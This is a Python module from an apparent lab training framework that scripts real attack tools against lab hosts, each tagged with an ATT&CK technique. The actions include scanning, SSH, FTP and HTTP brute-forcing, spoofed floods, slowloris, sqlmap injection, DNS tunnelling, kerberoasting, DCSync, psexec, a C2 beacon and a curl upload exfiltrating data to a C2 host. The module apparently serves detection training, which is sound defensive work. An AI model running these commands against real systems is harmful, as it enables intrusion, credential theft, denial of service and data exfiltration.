"""The lab's attacks: real tools' command lines (nmap, masscan, hydra, medusa, hping3,
slowhttptest, sqlmap, iodine, impacket, samba-tool, curl), each with its targets, ATT&CK
technique and how its outcome is read from the tool's output."""

from __future__ import annotations

from quietwire.trainer.lab.actions import (
    C2,
    DC,
    DNS,
    FILES,
    TUN,
    WEB,
    Action,
    Command,
    Context,
    _impacket,
    found,
    sh,
)
from quietwire.trainer.lab.services import (
    ADMIN_PASSWORD,
    NO_PREAUTH,
    TUNNEL_PASSWORD,
    TUNNEL_ZONE,
    USERS,
)
from quietwire.trainer.lab.topology import BY_NAME, LAN_NET, ROUTER_LAN_MAC


def _nmap(*flags: str, target: str) -> Command:
    return lambda ctx, actor: [
        "nmap",
        "-n",
        "-Pn",
        *flags,
        "--max-retries",
        "1",
        "--host-timeout",
        f"{max(20, int(ctx.duration_s))}s",
        target,
    ]


def _sweep(ctx: Context, actor: str) -> list[str]:
    return ["nmap", "-n", "-sn", "-T4", "--max-retries", "1", f"{LAN_NET}.0/24"]


def _masscan(ctx: Context, actor: str) -> list[str]:
    return [
        "masscan",
        f"{LAN_NET}.0/24",
        "-p",
        "21,22,80,443,445,3389,8080",
        "--rate",
        "300",
        "--wait",
        "2",
        "--router-mac",
        ROUTER_LAN_MAC,
        "--adapter-ip",
        BY_NAME[actor].ip,
    ]


def _hydra_ssh(ctx: Context, actor: str) -> list[str]:
    return ["hydra", "-l", "bob", "-P", str(ctx.words), "-t", "4", "-f", "-I", f"ssh://{FILES}"]


def _medusa_ftp(ctx: Context, actor: str) -> list[str]:
    return [
        "medusa",
        "-h",
        FILES,
        "-u",
        "carol",
        "-P",
        str(ctx.words),
        "-M",
        "ftp",
        "-t",
        "2",
        "-f",
    ]


def _hydra_http(ctx: Context, actor: str) -> list[str]:
    return [
        "hydra",
        "-l",
        "alice",
        "-P",
        str(ctx.words),
        "-t",
        "4",
        "-f",
        "-I",
        WEB,
        "http-post-form",
        "/login:user=^USER^&pass=^PASS^:Login failed",
    ]


def _flood(udp: bool, target: str, port: int) -> Command:
    def command(ctx: Context, actor: str) -> list[str]:
        count = int(min(ctx.duration_s, 20) * 1500)  # 1,500 packets/s: the lab keeps up
        return [
            "hping3",
            *(["--udp"] if udp else ["-S"]),
            "-p",
            str(port),
            "--rand-source",
            "-i",
            "u666",
            "-c",
            str(count),
            "-q",
            target,
        ]

    return command


def _slow(*flags: str, url: str) -> Command:
    return lambda ctx, actor: [
        "slowhttptest",
        *flags,
        "-u",
        url,
        "-l",
        str(max(15, int(ctx.duration_s) - 5)),
        "-o",
        str(ctx.workdir / f"slowhttptest-{actor}"),
    ]


def _sqlmap(*flags: str) -> Command:
    return lambda ctx, actor: [
        "sqlmap",
        "-u",
        f"http://{WEB}/item?id=1",
        "--batch",
        "--dbms=sqlite",
        "--technique=BU",
        "--flush-session",
        "--output-dir",
        str(ctx.workdir / "sqlmap"),
        "--timeout",
        "10",
        *flags,
    ]


def _iodine(ctx: Context, actor: str) -> list[str]:
    pings = max(5, int(ctx.duration_s / 2) - 8)
    return sh(
        f"iodine -f -r -P {TUNNEL_PASSWORD} {DNS} {TUNNEL_ZONE} & pid=$!; sleep 6; "
        f"ping -c {pings} -i 1 -s 400 -W 2 10.99.0.1; kill $pid; wait $pid"
    )


def _impacket_cmd(script: str, *args: str) -> Command:
    return lambda ctx, actor: [_impacket(script), *args]


ALICE = f"lab.example/alice:{USERS[0].password}"
ADMIN = f"lab.example/Administrator:{ADMIN_PASSWORD}"


def _asrep(ctx: Context, actor: str) -> list[str]:
    users = ctx.workdir / "userlist.txt"
    users.write_text("\n".join([NO_PREAUTH.name, "alice", "carol", "administrator"]) + "\n")
    return [
        _impacket("GetNPUsers.py"),
        "-no-pass",
        "-usersfile",
        str(users),
        "-dc-ip",
        DC,
        "lab.example/",
    ]


def _clone_dc(ctx: Context, actor: str) -> list[str]:
    target = ctx.workdir / f"clone-{actor}-{ctx.rng.randrange(1 << 30)}"
    return [
        "samba-tool",
        "drs",
        "clone-dc-database",
        "lab.example",
        f"--server={DC}",
        f"--targetdir={target}",
        f"-UAdministrator%{ADMIN_PASSWORD}",
    ]


def _beacon(ctx: Context, actor: str) -> list[str]:
    n = max(3, int(ctx.duration_s / 10))
    return sh(
        f"for i in $(seq {n}); do curl -sk -o /dev/null --max-time 5 "
        f"-A 'Mozilla/5.0 (Windows NT 10.0)' https://{C2}/api/v2/check; "
        f"sleep $(( 7 + $(od -An -N1 -tu1 /dev/urandom) % 6 )); done"
    )


def _exfil(ctx: Context, actor: str) -> list[str]:
    src = ctx.file("exfil.tar.gz", 25_000_000)
    return [
        "curl",
        "-sk",
        "-o",
        "/dev/null",
        "--max-time",
        "120",
        "-T",
        str(src),
        f"https://{C2}/upload",
    ]


LAN = f"{LAN_NET}.0/24"

ATTACKS = (
    Action(
        "port_scan_syn",
        "nmap",
        _nmap("-sS", "-T4", "-p", "1-1000", target=f"{WEB}-13"),
        (f"{WEB}-13",),
        "T1046",
    ),
    Action(
        "port_scan_connect",
        "nmap",
        _nmap("-sT", "-T4", "-p", "1-600", target=FILES),
        (FILES,),
        "T1046",
    ),
    Action(
        "port_scan_udp",
        "nmap",
        _nmap("-sU", "-T4", "--top-ports", "40", target=DNS),
        (DNS,),
        "T1046",
        min_s=20,
    ),
    Action("host_sweep", "nmap", _sweep, (LAN,), "T1018", actors=("remote",)),
    Action("port_scan_masscan", "masscan", _masscan, (LAN,), "T1046", min_s=15),
    Action(
        "brute_force_ssh",
        "hydra",
        _hydra_ssh,
        (FILES,),
        "T1110.001",
        outcome=found(r"\b[1-9]\d* valid passwords? found", "failed"),
        min_s=20,
    ),
    Action(
        "brute_force_ftp",
        "medusa",
        _medusa_ftp,
        (FILES,),
        "T1110.001",
        outcome=found("ACCOUNT FOUND", "failed"),
        min_s=20,
    ),
    Action(
        "brute_force_http",
        "hydra",
        _hydra_http,
        (WEB,),
        "T1110.001",
        outcome=found(r"\b[1-9]\d* valid passwords? found", "failed"),
        min_s=10,
    ),
    Action(
        "syn_flood",
        "hping3",
        _flood(False, WEB, 80),
        (WEB,),
        "T1498",
        spoofed=True,
        outcome=lambda rc, out: "success",
        min_s=10,
    ),
    Action(
        "udp_flood",
        "hping3",
        _flood(True, DNS, 53),
        (DNS,),
        "T1498",
        spoofed=True,
        outcome=lambda rc, out: "success",
        min_s=10,
    ),
    Action(
        "slowloris",
        "slowhttptest",
        _slow(
            "-c", "300", "-H", "-i", "10", "-r", "100", "-x", "24", "-p", "3", url=f"http://{WEB}/"
        ),
        (WEB,),
        "T1499.002",
        min_s=25,
        outcome=lambda rc, out: "success",
    ),
    Action(
        "slow_body",
        "slowhttptest",
        _slow(
            "-c",
            "300",
            "-B",
            "-i",
            "10",
            "-r",
            "100",
            "-s",
            "8192",
            "-t",
            "POST",
            url=f"http://{WEB}/login",
        ),
        (WEB,),
        "T1499.002",
        min_s=25,
        outcome=lambda rc, out: "success",
    ),
    Action(
        "slow_read",
        "slowhttptest",
        _slow(
            "-c",
            "200",
            "-X",
            "-r",
            "100",
            "-w",
            "10",
            "-y",
            "20",
            "-n",
            "5",
            "-z",
            "32",
            url=f"http://{WEB}/static/logo.png",
        ),
        (WEB,),
        "T1499.002",
        min_s=25,
        outcome=lambda rc, out: "success",
    ),
    Action(
        "sql_injection",
        "sqlmap",
        _sqlmap(),
        (WEB,),
        "T1190",
        outcome=found("is vulnerable"),
        min_s=20,
    ),
    Action(
        "sql_injection_random_agent",
        "sqlmap",
        _sqlmap("--random-agent"),
        (WEB,),
        "T1190",
        outcome=found("is vulnerable"),
        min_s=20,
    ),
    Action(
        "dns_tunnel",
        "iodine",
        _iodine,
        (DNS,),
        "T1071.004",
        relays=((DNS, TUN),),
        outcome=found("bytes from 10.99.0.1", "failed"),
        min_s=25,
    ),
    Action(
        "sid_enumeration",
        "impacket",
        _impacket_cmd("lookupsid.py", f"{ALICE}@{DC}", "2000"),
        (DC,),
        "T1087.002",
        outcome=found("SidTypeUser"),
    ),
    Action(
        "samr_enumeration",
        "impacket",
        _impacket_cmd("samrdump.py", f"{ALICE}@{DC}"),
        (DC,),
        "T1087.002",
        outcome=found("Received"),
    ),
    Action(
        "rpc_endpoint_dump",
        "impacket",
        _impacket_cmd("rpcdump.py", DC),
        (DC,),
        "T1046",
        outcome=found("Protocol:"),
    ),
    Action(
        "kerberoasting",
        "impacket",
        _impacket_cmd("GetUserSPNs.py", "-request", "-dc-ip", DC, ALICE),
        (DC,),
        "T1558.003",
        outcome=found(r"\$krb5tgs\$"),
    ),
    Action(
        "asrep_roasting", "impacket", _asrep, (DC,), "T1558.004", outcome=found(r"\$krb5asrep\$")
    ),
    Action(
        "dcsync",
        "impacket",
        _impacket_cmd("secretsdump.py", "-just-dc", f"{ADMIN}@{DC}"),
        (DC,),
        "T1003.006",
        outcome=found(":::"),
    ),
    Action("dcsync_clone", "samba-tool", _clone_dc, (DC,), "T1003.006", min_s=20),
    Action(
        "remote_service_psexec",
        "impacket",
        _impacket_cmd("psexec.py", f"{ADMIN}@{DC}", "whoami"),
        (DC,),
        "T1569.002",
        outcome=found("nt authority"),
    ),
    Action(
        "remote_service_smbexec",
        "impacket",
        _impacket_cmd("smbexec.py", f"{ADMIN}@{DC}"),
        (DC,),
        "T1569.002",
        outcome=found("nt authority"),
    ),
    Action(
        "c2_beacon",
        "curl",
        _beacon,
        (C2,),
        "T1071.001",
        min_s=40,
        outcome=lambda rc, out: "success",
    ),
    Action("exfiltration", "curl", _exfil, (C2,), "T1041", min_s=20),
)
ATTACK_BY_KIND = {a.kind: a for a in ATTACKS}
